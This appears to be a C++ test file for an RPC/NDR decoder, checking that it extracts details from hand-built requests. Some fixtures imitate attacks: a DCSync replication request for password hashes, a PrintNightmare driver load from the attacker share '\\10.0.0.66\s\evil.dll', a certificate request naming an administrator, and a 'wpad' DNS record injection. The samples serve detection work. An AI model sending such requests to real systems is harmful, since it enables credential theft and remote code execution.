// Structures inside the arguments of real operations: stubs written by hand, decoded with the
// project's own definitions.
#include "blobs/reader.h"

#include "base/guid.h"
#include "blobs/helpers.h"
#include "blobs/requests.h"
#include "builtin/builtin.h"
#include "ndr/decode.h"

namespace rpcmarshal::blobs {
namespace {

using test::from_hex;
using test::shown;

const Catalogue& catalogue() {
  static const LoadedCatalogue loaded = load_catalogue();
  return loaded.catalogue;
}

/// Little-endian NDR, written in order.
class Stub {
 public:
  Stub& u32(std::uint32_t value) {
    for (int i = 0; i < 4; ++i) bytes_ += static_cast<char>(value >> (8 * i));
    return *this;
  }
  Stub& raw(std::string_view bytes) {
    bytes_ += bytes;
    return *this;
  }
  Stub& align(std::size_t to) {
    while (bytes_.size() % to) bytes_ += '\0';
    return *this;
  }
  /// A [string]: maximum, offset, actual count, characters with NUL.
  Stub& string(std::string_view ascii) {
    const auto count = static_cast<std::uint32_t>(ascii.size() + 1);
    u32(count).u32(0).u32(count);
    return wide(ascii).raw(std::string_view("\0\0", 2)).align(4);
  }
  Stub& wide(std::string_view ascii) {
    for (const char c : ascii) bytes_ += std::string{c, '\0'};
    return *this;
  }
  Stub& counted(std::string_view bytes) {
    const auto size = static_cast<std::uint32_t>(bytes.size());
    return u32(size).u32(0x20000).u32(size).raw(bytes).align(4);
  }
  std::string_view bytes() const { return bytes_; }

 private:
  std::string bytes_;
};

std::vector<Detail> read(const char* interface_name, const char* operation, const Stub& stub,
                         ndr::Half half = ndr::Half::kRequest) {
  static const ndr::Codec codec(catalogue());
  const Interface* interface = catalogue().find_by_name(interface_name);
  std::vector<Detail> out;
  if (!interface) return out;
  for (const Procedure& procedure : interface->procedures) {
    if (procedure.name != operation) continue;
    const ndr::Program* program =
        codec.program(*interface, procedure.opnum, half, ndr::Syntax::kNdr20);
    if (!program) return out;
    ndr::Tape tape;
    ndr::decode(*program, {.stub = as_bytes(stub.bytes())}, tape);
    Reader reader(catalogue());
    reader.start();
    ndr::Walker walker;
    walker.start(tape.root());
    while (walker.next()) {
      if (walker.event() == ndr::Walker::Event::kClose) continue;
      if (walker.depth() == 1) reader.argument(walker.value().name());
      if (!walker.value().display().semantic.empty()) reader.note(walker.value(), tape.root(), {});
    }
    reader.finish(out);
  }
  return out;
}

TEST(ReaderTest, TaskOfSchRpcRegisterTask) {
  Stub stub;
  stub.u32(0).string("<Task><Actions><Exec><Command>a.exe</Command></Exec></Actions></Task>");
  const auto details = read("ITaskSchedulerService", "SchRpcRegisterTask", stub);
  ASSERT_EQ(details.size(), 1u);
  EXPECT_EQ(details[0].kind, "task");
  EXPECT_EQ(details[0].argument, "xml");
  EXPECT_EQ(details[0].summary, "a.exe");
}

TEST(ReaderTest, CertificateRequestAndItsAttributes) {
  const std::string request = from_hex(test::kPkcs10);
  Stub attributes;
  attributes.wide("CertificateTemplate:User\nSAN:upn=administrator@lab.test");
  Stub stub;
  stub.u32(0).u32(0).u32(0).counted(attributes.bytes()).counted(request);
  const auto details = read("ICertPassage", "CertServerRequest", stub);
  ASSERT_EQ(details.size(), 2u);
  EXPECT_EQ(details[0].kind, "certificate_attributes");
  EXPECT_EQ(details[0].argument, "pctbAttribs");
  EXPECT_EQ(details[0].summary, "template User, for administrator@lab.test");
  EXPECT_EQ(details[1].kind, "certificate_request");
  EXPECT_EQ(details[1].argument, "pctbRequest");
  EXPECT_EQ(shown(*details[1].item.find("upn")), "[administrator@lab.test]");
}

// DCSync: version 8 of the request, one object, the attributes with the keys.
TEST(ReaderTest, AttributesAndNameOfDrsGetNcChanges) {
  const std::string guid(16, '\x11');
  Stub stub;
  stub.raw(std::string(20, '\x01')).u32(8).u32(8).align(8);  // handle, version, union
  stub.raw(guid).raw(guid).u32(0x20000).align(8);            // DSA, invocation, pNC
  stub.raw(std::string(24, '\0')).u32(0);                    // USNs, no up-to-dateness vector
  stub.u32(0).u32(1).u32(0).u32(6).align(8);                 // flags, objects, bytes, EXOP
  stub.raw(std::string(8, '\0')).u32(0x20004).u32(0);        // FSMO info, attribute sets
  stub.u32(1).u32(0x20008);                                  // prefix table
  // DSNAME: conformance, lengths, GUID, SID, name
  stub.u32(9).u32(0).u32(28).raw(std::string(16, '\0'));
  stub.raw(from_hex("010500000000000515000000010000000200000003000000f4010000"));
  stub.u32(8).wide("CN=krb,x").raw(std::string_view("\0\0", 2)).align(4);
  stub.u32(2).u32(1).u32(0).u32(2).u32(0x0007005A).u32(0x00070092);  // PARTIAL_ATTR_VECTOR
  const std::string prefix = from_hex("2a864886f7140104");
  stub.u32(1).u32(7).u32(8).u32(0x2000C).u32(8).raw(prefix);
  const auto details = read("drsuapi", "IDL_DRSGetNCChanges", stub);
  ASSERT_EQ(details.size(), 2u);
  EXPECT_EQ(details[0].kind, "directory_name");
  EXPECT_EQ(shown(details[0].item), "{name=CN=krb,x sid=S-1-5-21-1-2-3-500}");
  EXPECT_EQ(details[1].kind, "attributes");
  EXPECT_EQ(details[1].argument, "pmsgIn");
  EXPECT_EQ(shown(details[1].item), "{requested=[unicodePwd, objectSid] secret=[unicodePwd]}");
  EXPECT_EQ(details[1].summary, "unicodePwd");
}

// PrintNightmare: the driver that is added, and the spooler's list in which it looks up the folder.
TEST(ReaderTest, PrintDrivers) {
  Stub added;
  added.u32(0).u32(2).u32(2).u32(0x20000);  // no server name, level, union
  added.u32(3).u32(0x20004).u32(0x20008).u32(0x2000C).u32(0x20010).u32(0);
  added.string("1234").string("Windows x64").string("C:\\a\\UNIDRV.DLL");
  added.string("\\\\10.0.0.66\\s\\evil.dll").u32(0x8014);
  const auto details = read("winspool", "RpcAddPrinterDriverEx", added);
  ASSERT_EQ(details.size(), 1u);
  EXPECT_EQ(details[0].kind, "print_driver");
  EXPECT_EQ(details[0].argument, "pDriverContainer");
  EXPECT_EQ(details[0].item.value("data_file"), "\\\\10.0.0.66\\s\\evil.dll");
  EXPECT_EQ(details[0].summary, "1234, C:\\a\\UNIDRV.DLL, \\\\10.0.0.66\\s\\evil.dll");

  // The level stands in the request, which is missing here: nothing can be read.
  Stub listed;
  listed.u32(0x20000).u32(8).raw(std::string("\4\0\0\0a\0\0\0", 8)).u32(8).u32(1).u32(0);
  EXPECT_TRUE(read("winspool", "RpcEnumPrinterDrivers", listed, ndr::Half::kResponse).empty());
}

TEST(ReaderTest, NothingInOrdinaryArguments) {
  Stub stub;
  stub.u32(0).u32(0).u32(1);
  EXPECT_TRUE(read("svcctl", "ROpenSCManagerW", stub).empty());
}

// A record for "wpad" is added, and the records of a zone are listed.
TEST(ReaderTest, RecordsOfDnsServer) {
  Stub added;
  added.raw(from_hex(
      "0000070000000000000000000000000005000000000000000500000077706164000000000800020004000000"
      "040001000000000001000000b400000000000000000000000a00000900000000"));
  const auto details = read("DnsServer", "R_DnssrvUpdateRecord2", added);
  ASSERT_EQ(details.size(), 1u);
  EXPECT_EQ(details[0].kind, "dns_record");
  EXPECT_EQ(details[0].argument, "pAddRecord");
  EXPECT_EQ(details[0].summary, "A 10.0.0.9");

  Stub listed;
  const std::string node = from_hex(
      "14000100000000000000000004777061640000000400010000000000"
      "01000000b400000000000000000000000a000009");
  listed.u32(static_cast<std::uint32_t>(node.size())).u32(0x20000);
  listed.u32(static_cast<std::uint32_t>(node.size())).raw(node).u32(0);
  const auto nodes = read("DnsServer", "R_DnssrvEnumRecords2", listed, ndr::Half::kResponse);
  ASSERT_EQ(nodes.size(), 1u);
  EXPECT_EQ(nodes[0].kind, "dns_nodes");
  EXPECT_EQ(nodes[0].summary, "1 names, 1 records, first wpad A 10.0.0.9");
}

}  // namespace
}  // namespace rpcmarshal::blobs
